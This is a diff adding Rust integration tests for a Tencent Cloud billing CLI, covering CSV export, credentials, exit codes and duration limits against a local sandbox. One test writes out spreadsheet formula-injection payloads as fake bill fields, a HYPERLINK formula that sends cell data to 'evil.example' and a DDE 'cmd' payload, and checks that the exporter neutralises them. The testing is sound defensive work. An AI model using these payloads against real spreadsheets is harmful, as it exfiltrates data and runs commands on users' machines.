@@ -1,6 +1,11 @@
 //! `tcbill` end to end against the sandbox. The example's modules are compiled into this test and
-//! driven through `cli::run`, the same entry point `main` uses; one test also runs the built binary
-//! and interrupts it with SIGINT.
+//! driven through `cli::run`, the same entry point `main` uses; their own `#[cfg(test)]` unit and
+//! property tests run here too. The tests of credentials, exit codes and argument errors run the
+//! built binary in a controlled environment (no `TENCENTCLOUD_*` or `TKE_*` variables, `HOME` in
+//! a fresh temporary directory); one also interrupts it with SIGINT.
+//!
+//! The binary is the one `cargo test` builds; with `cargo test --test tcbill` alone, build it
+//! first with `cargo build --all-features --example tcbill`.
 
 #[path = "../examples/tcbill/chart.rs"]
 #[allow(dead_code)]
@@ -228,12 +233,306 @@ fn charts_of_one_bar_and_of_many() {
     }
 }
 
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+    let sandbox = tencentcloud_billing::sandbox::Sandbox::start().await.unwrap();
+    sandbox.set_handler("DescribeBillDetail", |_, _| {
+        Ok(serde_json::json!({
+            "Total": 1,
+            "DetailSet": [{
+                "Id": "=1+1",
+                "BusinessCode": "p_cvm",
+                "BusinessCodeName": "Cloud Virtual Machine",
+                "ProductCode": "sp_cvm_s5",
+                "ProductCodeName": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                "PayModeName": "+cmd|' /C calc'!A0",
+                "ActionType": "-",
+                "ActionTypeName": "refund-of-order",
+                "RegionId": "4",
+                "RegionName": "@SUM(A1:A9)",
+                "ZoneName": "\tZone",
+                "ProjectId": -5,
+                "ProjectName": "\r=evil",
+                "ResourceId": "ins-1",
+                "ResourceName": "-2+3,x",
+                "OwnerUin": "100000000001",
+                "Tags": [{ "TagKey": "=team", "TagValue": "ops" }, { "TagKey": "env", "TagValue": "=prod" }],
+                "ComponentSet": [
+                    { "Cost": "-12.50", "RealCost": "-12.50", "CashPayAmount": "-12.50", "VoucherPayAmount": "0",
+                      "IncentivePayAmount": "0", "TransferPayAmount": "0" },
+                    { "Cost": "2.25", "RealCost": "-0.75", "CashPayAmount": "-0.75", "VoucherPayAmount": "0",
+                      "IncentivePayAmount": "0", "TransferPayAmount": "0" }
+                ]
+            }]
+        }))
+    });
+    let client = sandbox.client_builder().build().unwrap();
+    let mut out = Vec::new();
+    let month: YearMonth = "2026-10".parse().unwrap();
+    let done = export::export(&client, month, cli::Format::Csv, None, &mut out, never()).await.unwrap();
+    assert_eq!((done.rows, done.pages), (1, 1));
+    let expected = format!(
+        "{HEADER}\n,,'=1+1,,,,,,p_cvm,Cloud Virtual Machine,sp_cvm_s5,\
+         \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,'-,refund-of-order,4,\
+         '@SUM(A1:A9),'\tZone,-5,\"'\r=evil\",ins-1,\"'-2+3,x\",100000000001,'=team=ops;env==prod,\
+         -10.25,-13.25,-13.25,0,0,0,2\n"
+    );
+    assert_eq!(String::from_utf8(out).unwrap(), expected);
+}
+
+#[tokio::test]
+async fn an_overflowing_row_stops_the_export_after_the_complete_rows() {
+    let sandbox = tencentcloud_billing::sandbox::Sandbox::start().await.unwrap();
+    sandbox.set_handler("DescribeBillDetail", |_, _| {
+        let huge = serde_json::json!({ "Cost": "99999999999999999999999999" });
+        Ok(serde_json::json!({
+            "Total": 2,
+            "DetailSet": [
+                { "Id": "fine", "ComponentSet": [{ "Cost": "1.50" }] },
+                { "Id": "hostile", "ComponentSet": vec![huge; 800] },
+            ]
+        }))
+    });
+    let client = sandbox.client_builder().build().unwrap();
+    let mut out = Vec::new();
+    let e = export::export(&client, "2026-10".parse().unwrap(), cli::Format::Csv, None, &mut out, never())
+        .await
+        .unwrap_err();
+    assert_eq!(
+        e.to_string(),
+        "the cost of bill row \"hostile\" adds up to more than 28 digits: the amounts cannot be right, so no total \
+         is shown"
+    );
+    assert_eq!(String::from_utf8(out).unwrap(), format!("{HEADER}\n,,fine,,,,,,,,,,,,,,,,,,,,,,1.50,0,0,0,0,0,1\n"));
+}
+
+/// The built `tcbill` binary. Fails, rather than skips, when it is missing or older than its
+/// sources: these tests are about the real process's exit codes and environment.
+fn tcbill_binary() -> PathBuf {
+    let bin = std::env::current_exe()
+        .ok()
+        .and_then(|p| {
+            p.parent()?.parent().map(|d| d.join("examples").join(format!("tcbill{}", std::env::consts::EXE_SUFFIX)))
+        })
+        .filter(|p| p.exists())
+        .expect("the tcbill example binary is not built: run `cargo build --all-features --example tcbill` first");
+    let built = std::fs::metadata(&bin).and_then(|m| m.modified()).unwrap();
+    let sources = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("examples").join("tcbill");
+    for f in std::fs::read_dir(&sources).unwrap() {
+        let f = f.unwrap();
+        let changed = f.metadata().and_then(|m| m.modified()).unwrap();
+        assert!(
+            changed <= built,
+            "{} changed after the tcbill binary was built: run `cargo build --all-features --example tcbill`",
+            f.path().display()
+        );
+    }
+    bin
+}
+
+/// What a run of the binary gave.
+#[derive(Debug)]
+struct Run {
+    code: Option<i32>,
+    stdout: String,
+    stderr: String,
+}
+
+/// Run the binary with no `TENCENTCLOUD_*` or `TKE_*` variable but `env`, and `HOME` in a fresh
+/// directory named after `tag`, so that no credentials of the machine or the user are found.
+fn run_binary(tag: &str, args: &[&str], env: &[(&str, &str)]) -> Run {
+    let home = temp(&format!("home-{tag}"));
+    let _ = std::fs::remove_dir_all(&home);
+    std::fs::create_dir_all(&home).unwrap();
+    let mut cmd = std::process::Command::new(tcbill_binary());
+    for (k, _) in std::env::vars_os() {
+        let name = k.to_string_lossy();
+        if name.starts_with("TENCENTCLOUD_") || name.starts_with("TKE_") || name == "USERPROFILE" {
+            cmd.env_remove(&k);
+        }
+    }
+    cmd.env("HOME", &home).args(args).envs(env.iter().copied()).stdin(std::process::Stdio::null());
+    let out = cmd.output().unwrap();
+    let _ = std::fs::remove_dir_all(&home);
+    Run {
+        code: out.status.code(),
+        stdout: String::from_utf8(out.stdout).unwrap(),
+        stderr: String::from_utf8(out.stderr).unwrap(),
+    }
+}
+
+/// Nothing in the environment, no profile file: the chain reports "not found" (the CVM role
+/// provider included: off a CVM instance its metadata host does not resolve or answer).
+#[test]
+fn without_credentials_watch_once_checks_the_demo_but_never_exits_0() {
+    // The one credential source no variable can hide; the profile provider always looks there.
+    let system = std::path::Path::new("/etc/tencentcloud/credentials");
+    assert!(
+        !system.exists(),
+        "{} exists: the default chain would use it, so this test cannot run here",
+        system.display()
+    );
+    for (scenario, first) in [("healthy", "healthy: "), ("low", "LOW: "), ("overdue", "OVERDUE: ")] {
+        let run = run_binary("none", &["--demo", scenario, "watch", "--threshold", "500", "--once"], &[]);
+        assert_eq!(run.code, Some(cli::EXIT_DEMO_DATA.into()), "{scenario}: {run:?}");
+        assert_eq!(cli::EXIT_DEMO_DATA, 4);
+        assert!(run.stdout.starts_with(first), "{scenario}: {run:?}");
+        assert!(
+            run.stderr.starts_with("tcbill: DEMO DATA, NOT A REAL ACCOUNT: no credentials found (env: "),
+            "{scenario}: {run:?}"
+        );
+        assert!(
+            run.stderr.ends_with("tcbill: exit 4: only the demo account was checked (no credentials found)\n"),
+            "{scenario}: {run:?}"
+        );
+    }
+    // The continuous watch refuses to start at all rather than monitor a demo account.
+    let run = run_binary("none-watch", &["watch", "--threshold", "500"], &[]);
+    assert_eq!(run.code, Some(4), "{run:?}");
+    assert_eq!(run.stdout, "");
+    assert!(
+        run.stderr.ends_with(
+            "tcbill: refusing to watch the demo account as if it were a real one (no credentials found); configure \
+         credentials, or pass --sandbox to watch the demo\n"
+        ),
+        "{run:?}"
+    );
+    // Other commands show the demo data, flagged on stderr.
+    let run = run_binary("none-balance", &["balance", "--json"], &[]);
+    assert_eq!(run.code, Some(0), "{run:?}");
+    assert!(run.stderr.starts_with("tcbill: DEMO DATA, NOT A REAL ACCOUNT"), "{run:?}");
+}
+
+#[test]
+fn with_sandbox_asked_for_watch_once_reports_the_demo_health() {
+    for (scenario, code, first) in
+        [("healthy", 0, "healthy: available "), ("low", 1, "LOW: "), ("overdue", 2, "OVERDUE: ")]
+    {
+        let run = run_binary("asked", &["--sandbox", "--demo", scenario, "watch", "--threshold", "500", "--once"], &[]);
+        assert_eq!(run.code, Some(code), "{scenario}: {run:?}");
+        assert!(run.stdout.starts_with(first), "{scenario}: {run:?}");
+        assert!(
+            run.stderr.starts_with("tcbill: --sandbox: using the built-in sandbox at http://127.0.0.1:"),
+            "{run:?}"
+        );
+        assert!(!run.stderr.contains("DEMO DATA"), "{run:?}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_profile_file_is_used_not_the_sandbox() {
+    use tencentcloud_billing::money::Cents;
+    use tencentcloud_billing::sandbox::{Account, Sandbox};
+    let sandbox = Sandbox::builder().account(Account::with_balance(Cents::from(100_000))).start().await.unwrap();
+    sandbox.add_credentials("AKIDprofiletcbill", "profile-secret-key", None);
+    let file = temp("profile-credentials");
+    std::fs::write(&file, "[default]\nsecret_id = AKIDprofiletcbill\nsecret_key = profile-secret-key\n").unwrap();
+    let (file_s, endpoint) = (file.to_str().unwrap().to_owned(), sandbox.endpoint());
+    let run = tokio::task::spawn_blocking(move || {
+        run_binary(
+            "profile",
+            &["watch", "--threshold", "500", "--once"],
+            &[("TENCENTCLOUD_CREDENTIALS_FILE", &file_s), ("TENCENTCLOUD_BILLING_ENDPOINT", &endpoint)],
+        )
+    })
+    .await
+    .unwrap();
+    assert_eq!(run.code, Some(0), "{run:?}");
+    assert_eq!(run.stdout, "healthy: available 1000.00 (threshold 500.00)\n");
+    assert_eq!(run.stderr, "", "no sandbox banner, no secret");
+    let requests = sandbox.requests();
+    assert_eq!(requests.len(), 1, "{requests:?}");
+    assert_eq!(requests[0].action, "DescribeAccountBalance");
+    assert_eq!(requests[0].secret_id, "AKIDprofiletcbill");
+    assert_eq!(requests[0].error_code, None, "the signature checked out");
+    let _ = std::fs::remove_file(file);
+}
+
+#[test]
+fn a_malformed_profile_file_is_an_error_not_a_fallback() {
+    let file = temp("malformed-credentials");
+    std::fs::write(&file, "[default\nsecret_id = AKIDbroken\nsecret_key = do-not-print-me\n").unwrap();
+    let path = file.to_str().unwrap();
+    let run =
+        run_binary("malformed", &["watch", "--threshold", "500", "--once"], &[("TENCENTCLOUD_CREDENTIALS_FILE", path)]);
+    assert_eq!(run.code, Some(3), "{run:?}");
+    assert_eq!(run.stdout, "");
+    assert_eq!(
+        run.stderr,
+        format!(
+            "tcbill: credentials error: the profile file {path} is not valid INI at line 1; not falling back to the \
+             demo sandbox: fix the credentials, or pass --sandbox for the demo\n"
+        )
+    );
+    // A profile without a key is configured but broken too.
+    std::fs::write(&file, "[default]\nsecret_id = AKIDhalf\n").unwrap();
+    let run = run_binary("halfprofile", &["balance"], &[("TENCENTCLOUD_CREDENTIALS_FILE", path)]);
+    assert_eq!(run.code, Some(3), "{run:?}");
+    assert!(
+        run.stderr.starts_with(&format!("tcbill: credentials error: profile [default] in {path} has no secret_key;")),
+        "{run:?}"
+    );
+    // --sandbox does not look at credentials at all.
+    let run = run_binary("malformed-sandbox", &["--sandbox", "balance"], &[("TENCENTCLOUD_CREDENTIALS_FILE", path)]);
+    assert_eq!(run.code, Some(0), "{run:?}");
+    let _ = std::fs::remove_file(file);
+}
+
+#[test]
+fn absurd_durations_are_refused_with_exit_3() {
+    for (flag, value, reason) in [
+        ("--interval", "99999999999999999d", "\"99999999999999999d\" is too long: at most 30d"),
+        ("--interval", "213503982334602d", "\"213503982334602d\" is too long: at most 30d"),
+        ("--interval", "99999999999999999999999s", "\"99999999999999999999999s\" is too long: at most 30d"),
+        ("--interval", "31d", "\"31d\" is too long: at most 30d"),
+        ("--interval", "0s", "\"0s\" is too short: poll at most once a second (1s)"),
+        ("--interval", "d", "\"d\" is not a duration like 30s, 5m or 1h"),
+        ("--debounce", "99999999999999999d", "\"99999999999999999d\" is too long: at most 30d"),
+    ] {
+        let run = run_binary("durations", &["--sandbox", "watch", "--threshold", "500", "--once", flag, value], &[]);
+        let name = if flag == "--interval" { "INTERVAL" } else { "DEBOUNCE" };
+        assert_eq!(run.code, Some(3), "{value}: {run:?}");
+        assert_eq!(run.stdout, "");
+        assert_eq!(
+            run.stderr,
+            format!(
+                "error: invalid value '{value}' for '{flag} <{name}>': {reason}\n\nFor more information, try '--help'.\n"
+            )
+        );
+    }
+    // Zero is a valid debounce (report at once).
+    let run = run_binary("durations", &["--sandbox", "watch", "--threshold", "500", "--once", "--debounce", "0s"], &[]);
+    assert_eq!(run.code, Some(0), "{run:?}");
+}
+
+#[test]
+fn help_lists_the_exit_codes() {
+    let run = run_binary("help", &["--help"], &[]);
+    assert_eq!(run.code, Some(0), "{run:?}");
+    for line in [
+        "  0    success; for `watch --once`: healthy\n",
+        "  1    `watch --once`: low balance\n",
+        "  2    `watch --once`: overdue\n",
+        "  3    error: bad arguments, broken credentials, API unreachable or failing\n",
+        "  4    `watch`: no credentials found, only the demo account was checked (not a real account)\n",
+        "  130  interrupted (Ctrl-C)\n",
+    ] {
+        assert!(run.stdout.contains(line), "{line:?} missing from {}", run.stdout);
+    }
+}
+
 #[test]
 fn durations_parse() {
     assert_eq!(cli::parse_duration("5m"), Ok(Duration::from_secs(300)));
     assert_eq!(cli::parse_duration("90"), Ok(Duration::from_secs(90)));
     assert_eq!(cli::parse_duration("2h"), Ok(Duration::from_secs(7_200)));
     assert!(cli::parse_duration("5 minutes").is_err());
+    assert_eq!(cli::parse_duration("30d"), Ok(cli::MAX_DURATION));
+    assert_eq!(cli::parse_debounce("0"), Ok(Duration::ZERO));
+    assert_eq!(cli::parse_interval("1s"), Ok(cli::MIN_INTERVAL));
+    for absurd in ["99999999999999999d", "18446744073709551615s", "18446744073709551616", "2592001", "0", ""] {
+        assert!(cli::parse_interval(absurd).is_err(), "{absurd}");
+    }
     assert_eq!(export::csv_field("a,\"b\""), "\"a,\"\"b\"\"\"");
 }
 
